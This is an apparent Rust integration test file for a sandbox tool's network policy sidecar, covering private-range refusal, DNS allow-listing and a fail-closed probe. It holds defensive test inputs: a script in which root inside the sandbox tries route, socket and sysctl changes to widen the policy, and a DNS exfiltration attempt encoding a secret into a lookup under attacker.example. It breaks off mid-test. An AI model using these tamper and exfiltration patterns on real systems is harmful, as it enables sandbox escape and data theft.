//! The Network Sidecar end to end, with the real runsc, as an unprivileged
//! user: policy installed and probed before the sandbox starts, enforced
//! outside the sandbox, refused configurations, DNS, fail-closed probe.
//!
//! Every `lazaret run` here runs inside a network namespace the test makes
//! (as root) with no uplink, which stands for the host: the test hosts live
//! in a second one behind its only link, and the host itself serves on
//! its own addresses (see [`TestNet`]). No traffic can reach a real
//! address.

use lazaret_tests::{
    assert_domain_gone, eventually, processes_mentioning, require_env, test_net, text, TestNet,
    Workspace,
};
use std::collections::BTreeMap;
use std::time::Duration;

/// Inside the sandbox: one TCP connect per `HOST:PORT` argument; prints a
/// JSON map target -> "OK <banner>" or "ERR <errno>" ("ERR timeout").
const CONNECT: &str = r#"
import json, socket, sys
res = {}
for t in sys.argv[1:]:
    host, port = t.rsplit(":", 1)
    host = host.strip("[]")
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(6)
        s.connect((host, int(port)))
        res[t] = "OK " + s.recv(64).decode().strip()
    except OSError as e:
        res[t] = "ERR %s" % (e.errno if e.errno is not None else "timeout")
print(json.dumps(res))
"#;

/// Inside: resolves each name through the C library (so `/etc/resolv.conf`).
const RESOLVE: &str = r#"
import socket, sys
for n in sys.argv[1:]:
    try:
        print(n, sorted({a[4][0] for a in socket.getaddrinfo(n, 80, socket.AF_INET)}))
    except OSError as e:
        print(n, "ERR", e)
"#;

const EHOSTUNREACH: &str = "ERR 113";
const ENETUNREACH: &str = "ERR 101";

fn py(script: &str, args: &[&str]) -> String {
    let mut s = format!("python3 -c '{}'", script.replace('\'', "'\"'\"'"));
    for a in args {
        s.push_str(&format!(" '{a}'"));
    }
    s
}

fn connects(out: &std::process::Output) -> BTreeMap<String, String> {
    let stdout = text(&out.stdout);
    let line = stdout
        .lines()
        .find(|l| l.starts_with('{'))
        .unwrap_or_else(|| panic!("no result: {stdout}\nstderr: {}", text(&out.stderr)));
    serde_json::from_str(line).unwrap()
}

fn reachable(r: &BTreeMap<String, String>, target: &str) {
    let host = target
        .rsplit_once(':')
        .unwrap()
        .0
        .trim_matches(|c| c == '[' || c == ']');
    assert_eq!(
        r[target],
        format!("OK SERVED-OK {host}"),
        "{target} must be reachable: {r:?}"
    );
}

/// Refused by the policy: "no route" at once, not a timeout.
fn refused(r: &BTreeMap<String, String>, target: &str) {
    assert!(
        r[target] == EHOSTUNREACH || r[target] == ENETUNREACH,
        "{target} must be refused with no route: {r:?}"
    );
}

/// A session that keeps the Domain up (`sleep 600`), until killed.
fn sleeping_session(ws: &Workspace, net: &TestNet) -> std::process::Child {
    ws.lazaret_in(net, &["run", "--", "sleep", "600"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap()
}

/// Process `pid` runs under seccomp, with no_new_privs and no capability
/// but CAP_NET_ADMIN (what the Network Sidecar's helpers keep).
fn assert_confined_net_admin(pid: i32) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    for want in ["Seccomp:\t2", "NoNewPrivs:\t1", "CapEff:\t0000000000001000"] {
        assert!(status.contains(want), "{want} not in {status}");
    }
}

fn write_network(ws: &Workspace, body: &str) {
    ws.write_config(&format!("[profiles.default.network]\n{body}"));
}

fn net_show(ws: &Workspace, net: &TestNet) -> serde_json::Value {
    let out = ws
        .lazaret_in(net, &["net", "show", "--json"])
        .output()
        .unwrap();
    assert!(out.status.success(), "net show: {}", text(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

const PUBLIC: &str = "198.51.100.1:8080";
const PRIVATE_10: &str = "10.99.0.1:8080";
const PRIVATE_10B: &str = "10.99.1.1:8080";
const PRIVATE_172: &str = "172.16.9.1:8080";
const METADATA: &str = "169.254.169.254:8080";
const CGNAT: &str = "100.64.0.1:8080";
const HOST_LOOPBACK: &str = "10.0.2.2:8080";

#[test]
fn default_policy_public_reachable_private_metadata_cgnat_ipv6_refused() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-default");
    let v6 = format!("[{}]:8080", lazaret_tests::TEST_HOST_V6);
    let mapped = "[::ffff:10.99.1.1]:8080";
    let script = format!(
        "{} && cat /etc/resolv.conf && {} && (echo x > /etc/resolv.conf && echo RESOLV-WRITABLE || echo RESOLV-READONLY); cat /proc/net/if_inet6 2>/dev/null | grep -v ' lo$' | sed 's/^/INET6 /'",
        py(
            CONNECT,
            &[PUBLIC, PRIVATE_10, PRIVATE_10B, PRIVATE_172, METADATA, CGNAT, HOST_LOOPBACK, &v6, mapped]
        ),
        py(RESOLVE, &["svc.lazaret.test"]),
    );
    let out = ws.run_sh_in(&net, &script);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let r = connects(&out);
    reachable(&r, PUBLIC);
    for t in [PRIVATE_10, PRIVATE_10B, PRIVATE_172, METADATA, CGNAT] {
        refused(&r, t);
    }
    // The gateway of the sandbox's link is slirp4netns B, which does not
    // forward to any loopback (`--disable-host-loopback`): silence. The
    // test hosts listen on the test namespace's 127.0.0.1 too, so a leak
    // would connect.
    assert!(
        r[HOST_LOOPBACK].starts_with("ERR"),
        "host loopback reached: {r:?}"
    );
    // IPv6 is off in both namespaces: no IPv6 destination, and an
    // IPv4-mapped one follows the IPv4 policy.
    assert!(r[&v6].starts_with("ERR"), "IPv6 reachable: {r:?}");
    assert!(
        r[mapped].starts_with("ERR"),
        "IPv4-mapped private reachable: {r:?}"
    );
    let stdout = text(&out.stdout);
    assert!(!stdout.contains("INET6"), "IPv6 addresses inside: {stdout}");
    // The implicit resolver: slirp B -> enforcement ns -> slirp A -> the
    // (test) host's resolver.
    assert!(
        stdout.contains("nameserver 10.0.2.3"),
        "resolv.conf inside: {stdout}"
    );
    assert!(
        stdout.contains("svc.lazaret.test ['198.51.100.1']"),
        "DNS through the slirp chain: {stdout}"
    );
    assert!(stdout.contains("RESOLV-READONLY"), "{stdout}");
    // The resolver file is a control file, never in the /etc State Anchor.
    let etc_upper = ws.domain_root("default").join("state/anchors/etc/g1/upper");
    let ls = env.sh(&format!("ls -A '{}'", etc_upper.display()));
    assert!(ls.status.success(), "{}", text(&ls.stderr));
    assert!(
        !text(&ls.stdout).contains("resolv.conf"),
        "resolv.conf in the /etc anchor: {}",
        text(&ls.stdout)
    );

    // Evidence: recorded, passed, with the fingerprint.
    let v = net_show(&ws, &net);
    assert_eq!(v["generation"], 1, "{v}");
    assert_eq!(v["evidence"]["passed"], true, "{v}");
    let fp = v["fingerprint"].as_str().unwrap();
    assert_eq!(fp.len(), 64, "{v}");
    assert_eq!(v["evidence"]["probe"]["attestation"]["fingerprint"], fp);
    let checks = v["evidence"]["probe"]["probe"]["checks"].to_string();
    assert!(checks.contains("denied destination refused"), "{checks}");
    assert!(checks.contains("resolver answers"), "{checks}");
    let text_out = ws.lazaret_in(&net, &["net", "show"]).output().unwrap();
    let s = text(&text_out.stdout);
    assert!(
        s.contains(fp) && s.contains("unreachable 169.254.0.0/16"),
        "{s}"
    );
    assert_domain_gone(&ws.domain_id("default"));
}

#[test]
fn allow_prefix_is_reachable_and_the_rest_of_10_8_stays_refused() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-allow");
    // The probe must reach an allowed test host before the sandbox starts.
    write_network(
        &ws,
        "allow = [\"10.99.0.0/24\"]\ndeny = [\"198.51.100.1\"]\nprobe = \"10.99.0.1:8080\"",
    );
    let out = ws.run_sh_in(
        &net,
        &py(
            CONNECT,
            &[PRIVATE_10, PRIVATE_10B, PUBLIC, "198.51.100.53:8080"],
        ),
    );
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let r = connects(&out);
    reachable(&r, PRIVATE_10);
    refused(&r, PRIVATE_10B);
    // A `deny` /32 inside the permitted default.
    refused(&r, PUBLIC);
    reachable(&r, "198.51.100.53:8080");
    let v = net_show(&ws, &net);
    let checks = v["evidence"]["probe"]["probe"]["checks"].to_string();
    assert!(
        checks.contains("permitted destination reachable") && checks.contains("10.99.0.1:8080"),
        "{checks}"
    );
    assert_domain_gone(&ws.domain_id("default"));
}

#[test]
fn default_deny_permits_only_allowed_prefixes_and_dns() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-deny");
    write_network(
        &ws,
        "default = \"deny\"\nallow = [\"10.99.0.0/24\"]\ndns = [\"10.99.5.53\"]",
    );
    let script = format!(
        "{} && cat /etc/resolv.conf && {}",
        py(
            CONNECT,
            &[PRIVATE_10, PRIVATE_10B, PUBLIC, "198.51.100.53:8080"]
        ),
        py(RESOLVE, &["svc.lazaret.test", "other.lazaret.test"]),
    );
    let out = ws.run_sh_in(&net, &script);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let r = connects(&out);
    reachable(&r, PRIVATE_10);
    refused(&r, PRIVATE_10B);
    refused(&r, PUBLIC);
    refused(&r, "198.51.100.53:8080");
    let stdout = text(&out.stdout);
    // The configured resolver, reachable inside 10/8 and under `deny`.
    assert!(stdout.contains("nameserver 10.99.5.53"), "{stdout}");
    assert!(!stdout.contains("nameserver 10.0.2.3"), "{stdout}");
    assert!(
        stdout.contains("svc.lazaret.test ['198.51.100.1']")
            && stdout.contains("other.lazaret.test ['198.51.100.1']"),
        "DNS through the configured resolver: {stdout}"
    );
    assert_domain_gone(&ws.domain_id("default"));
}

/// Root inside tries to widen the policy with what the sandbox offers
/// (netlink route changes, raw sockets, interface flags, sysctls); the
/// refused hosts stay refused, because the policy lives in a namespace
/// the sandbox cannot name.
const TAMPER: &str = r#"
import fcntl, os, socket, struct
def attempt(name, f):
    try:
        f(); print("TAMPER", name, "accepted")
    except OSError as e:
        print("TAMPER", name, "refused", e.errno)
def rtmsg(kind, dst, plen, gw=None):
    # struct rtmsg + RTA_DST (+ RTA_GATEWAY)
    body = struct.pack("BBBBBBBBI", socket.AF_INET, plen, 0, 0, 254, 4, 0, 1, 0)
    attrs = struct.pack("HH", 8, 1) + socket.inet_aton(dst)
    if gw:
        attrs += struct.pack("HH", 8, 5) + socket.inet_aton(gw)
    msg = body + attrs
    flags = 0x1 | 0x4 | 0x400 | 0x200  # REQUEST | ACK | CREATE | EXCL
    return struct.pack("IHHII", 16 + len(msg), kind, flags, 1, 0) + msg
def netlink(kind, dst, plen, gw=None):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.bind((0, 0))
    s.send(rtmsg(kind, dst, plen, gw))
    ans = s.recv(4096)
    err = struct.unpack("i", ans[16:20])[0] if len(ans) >= 20 else 0
    if err:
        raise OSError(-err, "netlink")
attempt("route-add-10.99.1.0/24", lambda: netlink(24, "10.99.1.0", 24, "10.0.2.2"))
attempt("route-add-172.16.0.0/12", lambda: netlink(24, "172.16.0.0", 12, "10.0.2.2"))
attempt("route-del-default", lambda: netlink(25, "0.0.0.0", 0))
attempt("raw-socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet-socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
def flags_down():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"tap0", 0))  # SIOCSIFFLAGS
attempt("ifflags-tap0", flags_down)
def sysctl():
    with open("/proc/sys/net/ipv4/ip_forward", "w") as f:
        f.write("1")
attempt("sysctl", sysctl)
"#;

#[test]
fn root_inside_cannot_change_the_policy() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-tamper");
    let script = format!(
        "id -u; {}; {}",
        py(TAMPER, &[]),
        py(CONNECT, &[PRIVATE_10B, PRIVATE_172, METADATA, PUBLIC])
    );
    let out = ws.run_sh_in(&net, &script);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(stdout.starts_with("0\n"), "not root inside: {stdout}");
    assert!(
        stdout.contains("TAMPER raw-socket refused"),
        "raw sockets: {stdout}"
    );
    eprintln!("tamper attempts:\n{stdout}");
    let r = connects(&out);
    // Whatever the attempts did to gVisor's own stack, the enforcement
    // namespace decides.
    refused(&r, PRIVATE_10B);
    refused(&r, PRIVATE_172);
    refused(&r, METADATA);
    assert_domain_gone(&ws.domain_id("default"));
}

fn assert_refused_at_start(ws: &Workspace, net: &TestNet, body: &str, names: &[&str]) {
    write_network(ws, body);
    let out = ws.lazaret_in(net, &["run", "--", "true"]).output().unwrap();
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{body}: stderr {err}");
    for n in names {
        assert!(
            err.contains(n),
            "{body}: the error does not name {n}: {err}"
        );
    }
    assert!(err.contains("nothing was started"), "{err}");
    // Nothing started: no process, no Domain Store, no run directory.
    let root = ws.domain_root("default");
    assert!(processes_mentioning(&ws.domain_id("default")).is_empty());
    assert!(
        !root.join("domain.redb").exists(),
        "{body}: the coordinator ran"
    );
    assert!(!root.join("run").exists());
}

#[test]
fn conflicts_and_invalid_entries_are_refused_at_start_naming_them() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-refused");
    assert_refused_at_start(
        &ws,
        &net,
        "allow = [\"198.51.100.0/24\", \"10.99.0.0/24\"]\ndeny = [\"10.99.0.0/24\"]",
        &[
            "network.allow[1] \"10.99.0.0/24\"",
            "network.deny[0] \"10.99.0.0/24\"",
        ],
    );
    assert_refused_at_start(
        &ws,
        &net,
        "deny = [\"10.99.0.0/33\"]",
        &["network.deny[0] \"10.99.0.0/33\""],
    );
    assert_refused_at_start(
        &ws,
        &net,
        "allow = [\"not-a-cidr\"]",
        &["network.allow[0] \"not-a-cidr\""],
    );
    assert_refused_at_start(
        &ws,
        &net,
        "allow = [\"fd00::/8\"]",
        &["network.allow[0] \"fd00::/8\"", "IPv6 is disabled"],
    );
    assert_refused_at_start(&ws, &net, "probe = \"10.99.0.1:8080\"", &["10.99.0.1:8080"]);
}

#[test]
fn failing_probe_stops_the_start_and_names_the_check() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-probe");
    // Nobody answers at 10.99.6.53 in the test namespace.
    write_network(&ws, "dns = [\"10.99.6.53\"]");
    let out = ws.run_sh_in(&net, "echo SANDBOX-RAN");
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "stderr: {err}");
    assert!(!text(&out.stdout).contains("SANDBOX-RAN"));
    assert!(
        err.contains("network: probe") && err.contains("resolver answers 10.99.6.53:53"),
        "the error does not name the failing check: {err}"
    );
    assert_domain_gone(&ws.domain_id("default"));
    let v = net_show(&ws, &net);
    assert_eq!(v["evidence"]["passed"], false, "{v}");
    assert!(
        v["evidence"]["error"]
            .as_str()
            .unwrap_or("")
            .contains("resolver answers 10.99.6.53:53"),
        "{v}"
    );

    // A permitted probe target that does not answer fails closed too.
    write_network(&ws, "probe = \"198.51.100.9:8080\"");
    let out = ws.run_sh_in(&net, "echo SANDBOX-RAN");
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "stderr: {err}");
    assert!(
        err.contains("permitted destination reachable 198.51.100.9:8080"),
        "{err}"
    );
    assert_domain_gone(&ws.domain_id("default"));
}

#[test]
fn mode_none_has_no_network() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-none");
    write_network(&ws, "mode = \"none\"");
    let out = ws.run_sh_in(&net, &py(CONNECT, &[PUBLIC]));
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let r = connects(&out);
    assert!(r[PUBLIC].starts_with("ERR"), "{r:?}");
    let v = net_show(&ws, &net);
    assert_eq!(v["disabled"], true, "{v}");
    assert_domain_gone(&ws.domain_id("default"));
}

#[test]
fn sidecar_processes_name_the_domain_and_die_with_a_killed_coordinator() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-procs");
    let id = ws.domain_id("default");
    let mut session = sleeping_session(&ws, &net);
    let both = eventually(Duration::from_secs(30), || {
        let p = processes_mentioning(&id);
        p.iter().any(|(_, c)| c.contains("slirp4netns-uplink"))
            && p.iter().any(|(_, c)| c.contains("slirp4netns-sandbox"))
    });
    assert!(
        both,
        "slirp4netns A and B do not name the Domain: {:#?}",
        processes_mentioning(&id)
    );
    // SIGKILL of the coordinator: the supervisor dies with it, slirp A
    // with the supervisor, slirp B and the keeper with the holder's PID
    // namespace.
    let (coordinator, _) = processes_mentioning(&id)
        .into_iter()
        .find(|(_, c)| c.contains("lazaret-coordinator"))
        .expect("coordinator");
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(coordinator),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
    assert_domain_gone(&id);
    let _ = session.kill();
    let _ = session.wait();
}

/// Inside: connects to HOST:PORT every 2 s for up to 100 s; prints
/// {"refused_after_s": "N"} with the seconds until the first refusal ("no
/// route"), or "never".
const UNTIL_REFUSED: &str = r#"
import json, socket, sys, time
start = time.time()
res = "never"
while time.time() - start < 100:
    s = socket.socket()
    s.settimeout(6)
    try:
        s.connect((sys.argv[1], int(sys.argv[2])))
        s.close()
    except OSError as e:
        if e.errno in (101, 113):
            res = str(int(time.time() - start))
            break
    time.sleep(2)
print(json.dumps({"refused_after_s": res}))
"#;

/// `allow_hosts` with `default = "deny"`: the sandbox resolves and reaches
/// only listed names, through Lazaret's filtering resolver, which sends no
/// other name upstream (the test hosts' DNS responder logs every query).
#[test]
fn allow_hosts_resolves_and_routes_only_listed_names() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-hosts");
    write_network(
        &ws,
        "default = \"deny\"\nallow_hosts = [\"svc.lazaret.test\", \"short.lazaret.test\", \"alias.lazaret.test\", \"private.lazaret.test\", \"*.pkg.lazaret.test:8081\"]",
    );
    let secret = "c2VjcmV0LWRhdGE";
    let exfil = format!("{secret}.attacker.example");
    let script = format!(
        "{} && {} && {} && {}",
        py(
            RESOLVE,
            &[
                "svc.lazaret.test",
                "other.lazaret.test",
                "alias.lazaret.test",
                &exfil
            ]
        ),
        py(
            CONNECT,
            &[
                "svc.lazaret.test:8080",
                "198.51.100.2:8080",
                "private.lazaret.test:8080",
                "reg.pkg.lazaret.test:8081",
                "reg.pkg.lazaret.test:8080",
            ]
        ),
        py(CONNECT, &["short.lazaret.test:8080"]),
        py(UNTIL_REFUSED, &["198.51.100.2", "8080"]),
    );
    let out = ws.run_sh_in(&net, &script);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("svc.lazaret.test ['198.51.100.1']"),
        "an allowed name resolves: {stdout}"
    );
    for name in ["other.lazaret.test", "alias.lazaret.test", exfil.as_str()] {
        assert!(
            stdout.contains(&format!("{name} ERR")),
            "{name} must not resolve: {stdout}"
        );
    }
    let results: Vec<BTreeMap<String, String>> = stdout
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(results.len(), 3, "{stdout}");
    let first = &results[0];
    assert_eq!(first["svc.lazaret.test:8080"], "OK SERVED-OK 198.51.100.1");
    // An address literal no answer gave: refused.
    refused(first, "198.51.100.2:8080");
    // An allowed name whose answer is a private address: never routed.
    refused(first, "private.lazaret.test:8080");
    // A port-limited entry: its port only.
    assert_eq!(
        first["reg.pkg.lazaret.test:8081"],
        "OK SERVED-OK 198.51.100.3"
    );
    refused(first, "reg.pkg.lazaret.test:8080");
    // Resolved, the short-lived name connects; its route is gone once the
    // TTL (1 s, kept for the 30 s floor) ended, and not before (the loop
    // starts a moment after the lookup; a connection open at expiry may
    // keep it 30 s more).
    assert_eq!(
        results[1]["short.lazaret.test:8080"],
        "OK SERVED-OK 198.51.100.2"
    );
    let gone = results[2]["refused_after_s"]
        .parse::<u64>()
        .unwrap_or_else(|_| panic!("never refused: {:?}", results[2]));
    assert!((25..=70).contains(&gone), "{:?}", results[2]);

    // Nothing not allowed reached the upstream resolver.
    let asked = net.queries();
    assert!(asked.iter().any(|q| q == "svc.lazaret.test"), "{asked:?}");
    for q in &asked {
        assert!(
            !q.contains(secret) && q != "other.lazaret.test" && !q.ends_with("attacker.example"),
            "{q} reached the upstream resolver: {asked:?}"
        );
    }

    // The evidence: the allow-list and the refused lookups.
    let v = net_show(&ws, &net);
    assert_eq!(v["policy"]["hosts"]["allow"][0], "svc.lazaret.test", "{v}");
    let log = ws
        .lazaret_in(&net, &["net", "log", "--json"])
        .output()
        .unwrap();
    assert!(log.status.success(), "net log: {}", text(&log.stderr));
    let events: Vec<serde_json::Value> = serde_json::from_slice(&log.stdout).unwrap();
    let refused_names: Vec<&str> = events
        .iter()
        .filter(|e| e["event"] == "refused")
        .filter_map(|e| e["name"].as_str())
        .collect();
    assert!(refused_names.contains(&"other.lazaret.test"), "{events:?}");
    assert!(
        refused_names.contains(&exfil.to_ascii_lowercase().as_str()),
        "{events:?}"
    );
    assert!(
        events.iter().any(|e| e["event"] == "refused"
            && e["name"] == "alias.lazaret.test"
            && e["cname"] == "target.elsewhere.test"),
        "{events:?}"
    );
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "address_refused" && e["address"] == "10.99.0.1"),
        "{events:?}"
    );
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "expired" && e["address"] == "198.51.100.2"),
        "{events:?}"
    );
    let human = ws.lazaret_in(&net, &["net", "log"]).output().unwrap();
    assert!(
        text(&human.stdout).contains("other.lazaret.test"),
        "{}",
        text(&human.stdout)
    );
    assert_domain_gone(&ws.domain_id("default"));
}

/// A process the test runs inside `net` (a Git or HTTP server) until
/// dropped.
struct Served(std::process::Child);

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// `argv` served by a test host (in the remote namespace).
fn serve_in(net: &TestNet, argv: &[&str], dir: &std::path::Path, port: &str) -> Served {
    let mut cmd = std::process::Command::new(argv[0]);
    cmd.args(&argv[1..]).current_dir(dir);
    let child = net
        .wrap_remote(&cmd)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let served = Served(child);
    let listening = eventually(Duration::from_secs(20), || {
        let out = net
            .wrap_remote(&std::process::Command::new("ss"))
            .args(["-ltnH", &format!("sport = :{port}")])
            .output()
            .unwrap();
        !text(&out.stdout).trim().is_empty()
    });
    assert!(listening, "{argv:?} does not listen on {port}");
    served
}

/// The workflow `allow_hosts` exists for: clone from an allowed Git host,
/// install a package from an allowed registry (port-limited), with
/// everything else denied.
#[test]
fn allow_hosts_clone_from_a_git_host_and_install_from_a_registry() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-hosts-flow");
    let srv = tempfile::tempdir().unwrap();
    let git = |args: &[&str], dir: &std::path::Path| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    };
    let repo = srv.path().join("demo.git");
    std::fs::create_dir_all(srv.path().join("src")).unwrap();
    std::fs::write(
        srv.path().join("src/README"),
        "cloned through allow_hosts\n",
    )
    .unwrap();
    git(&["init", "-q", "-b", "main", "."], &srv.path().join("src"));
    git(
        &["-c", "user.name=t", "-c", "user.email=t@t", "add", "README"],
        &srv.path().join("src"),
    );
    git(
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-qm",
            "demo",
        ],
        &srv.path().join("src"),
    );
    git(
        &["clone", "-q", "--bare", "src", repo.to_str().unwrap()],
        srv.path(),
    );
    // The registry: a package archive over HTTP.
    let reg = srv.path().join("registry");
    std::fs::create_dir_all(reg.join("pkg/demo-pkg-1.0")).unwrap();
    std::fs::write(reg.join("pkg/demo-pkg-1.0/VERSION"), "1.0\n").unwrap();
    let out = std::process::Command::new("tar")
        .args(["-czf", "demo-pkg-1.0.tar.gz", "demo-pkg-1.0"])
        .current_dir(reg.join("pkg"))
        .output()
        .unwrap();
    assert!(out.status.success());
    let base = format!("--base-path={}", srv.path().display());
    let _git = serve_in(
        &net,
        &[
            "git",
            "daemon",
            "--reuseaddr",
            "--export-all",
            "--listen=198.51.100.1",
            "--port=9418",
            &base,
        ],
        srv.path(),
        "9418",
    );
    let _http = serve_in(
        &net,
        &[
            "python3",
            "-m",
            "http.server",
            "8000",
            "--bind",
            "198.51.100.3",
        ],
        &reg,
        "8000",
    );
    write_network(
        &ws,
        "default = \"deny\"\nallow_hosts = [\"git.lazaret.test\", \"*.pkg.lazaret.test:8000\"]",
    );
    let fetch = r#"
import io, sys, tarfile, urllib.request
data = urllib.request.urlopen("http://registry.pkg.lazaret.test:8000/pkg/demo-pkg-1.0.tar.gz", timeout=10).read()
tarfile.open(fileobj=io.BytesIO(data)).extractall("/tmp/site")
print("INSTALLED", open("/tmp/site/demo-pkg-1.0/VERSION").read().strip())
"#;
    let script = format!(
        "git clone -q git://git.lazaret.test/demo.git /tmp/demo && cat /tmp/demo/README && {} && {}; (git ls-remote git://other.lazaret.test/demo.git >/dev/null 2>&1 && echo OTHER-REACHED) || echo OTHER-REFUSED",
        py(fetch, &[]),
        py(CONNECT, &["registry.pkg.lazaret.test:8080", "198.51.100.1:8080"]),
    );
    let out = ws.run_sh_in(&net, &script);
    let stdout = text(&out.stdout);
    assert!(
        out.status.success(),
        "stdout: {stdout}\nstderr: {}",
        text(&out.stderr)
    );
    assert!(stdout.contains("cloned through allow_hosts"), "{stdout}");
    assert!(stdout.contains("INSTALLED 1.0"), "{stdout}");
    assert!(stdout.contains("OTHER-REFUSED"), "{stdout}");
    let r = connects(&out);
    // The registry's other ports, and the Git host's address on a port the
    // Git host's entry allows (every port, but only once resolved): the
    // registry entry is port-limited.
    refused(&r, "registry.pkg.lazaret.test:8080");
    assert_eq!(r["198.51.100.1:8080"], "OK SERVED-OK 198.51.100.1");
    assert_domain_gone(&ws.domain_id("default"));
}

/// While the Domain runs, `lazaret net show` lists the names the filtering
/// resolver routed, with their addresses and expiry; once it stopped,
/// none.
#[test]
fn net_show_lists_the_names_routed_now() {
    use std::io::BufRead;
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-hosts-show");
    write_network(
        &ws,
        "default = \"deny\"\nallow_hosts = [\"svc.lazaret.test\", \"*.pkg.lazaret.test:8081\"]",
    );
    let script = format!(
        "{} && echo RESOLVED && sleep 600",
        py(RESOLVE, &["svc.lazaret.test", "reg.pkg.lazaret.test"])
    );
    let mut session = ws
        .lazaret_in(&net, &["run", "--", "sh", "-c", &script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = std::io::BufReader::new(session.stdout.take().unwrap()).lines();
    let mut seen = Vec::new();
    for l in lines.by_ref() {
        let l = l.unwrap();
        if l == "RESOLVED" {
            break;
        }
        seen.push(l);
    }
    assert!(
        seen.iter()
            .any(|l| l == "svc.lazaret.test ['198.51.100.1']"),
        "{seen:?}"
    );
    // The filter runs confined: seccomp, no_new_privs, CAP_NET_ADMIN only.
    let id = ws.domain_id("default");
    let (pid, _) = processes_mentioning(&id)
        .into_iter()
        .find(|(_, c)| c.contains("lazaret-dns-filter"))
        .unwrap_or_else(|| panic!("no lazaret-dns-filter: {:#?}", processes_mentioning(&id)));
    assert_confined_net_admin(pid);
    let v = net_show(&ws, &net);
    let table = v["dns_table"].as_array().unwrap_or_else(|| panic!("{v}"));
    let now_ms = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis() as u64;
    let row = |addr: &str| {
        table
            .iter()
            .find(|r| r["address"] == addr)
            .unwrap_or_else(|| panic!("{addr} not in {table:?}"))
            .clone()
    };
    let svc = row("198.51.100.1");
    assert_eq!(svc["names"][0], "svc.lazaret.test");
    assert_eq!(svc["ports"].as_array().unwrap().len(), 0);
    assert!(svc["expires_unix_ms"].as_u64().unwrap() > now_ms, "{svc}");
    assert_eq!(row("198.51.100.3")["ports"][0], 8081);
    let human = ws.lazaret_in(&net, &["net", "show"]).output().unwrap();
    let human = text(&human.stdout);
    assert!(
        human.contains("allow_hosts: svc.lazaret.test, *.pkg.lazaret.test:8081")
            && human.contains("198.51.100.1")
            && human.contains("svc.lazaret.test"),
        "{human}"
    );
    let _ = session.kill();
    let _ = session.wait();
    assert_domain_gone(&ws.domain_id("default"));
    let v = net_show(&ws, &net);
    assert_eq!(v["dns_table"].as_array().map(Vec::len), Some(0), "{v}");
}

/// Inside: one raw DNS query for `name` straight to `server`:53 over UDP,
/// bypassing `/etc/resolv.conf`; prints "DIRECT ANSWERED" or "DIRECT ERR".
const DIRECT_DNS: &str = r#"
import socket, struct, sys
server, name = sys.argv[1], sys.argv[2]
q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
try:
    s.sendto(q, (server, 53))
    s.recv(512)
    print("DIRECT ANSWERED")
except OSError as e:
    print("DIRECT ERR", e)
"#;

/// `allow_hosts` with the profile's own resolver (`dns`): the filter
/// forwards to it over a route only its own packets use; the sandbox
/// cannot send it anything.
#[test]
fn allow_hosts_with_a_configured_resolver_keeps_it_out_of_reach() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-hosts-dns");
    write_network(
        &ws,
        "default = \"deny\"\ndns = [\"10.99.5.53\"]\nallow_hosts = [\"svc.lazaret.test\"]",
    );
    let script = format!(
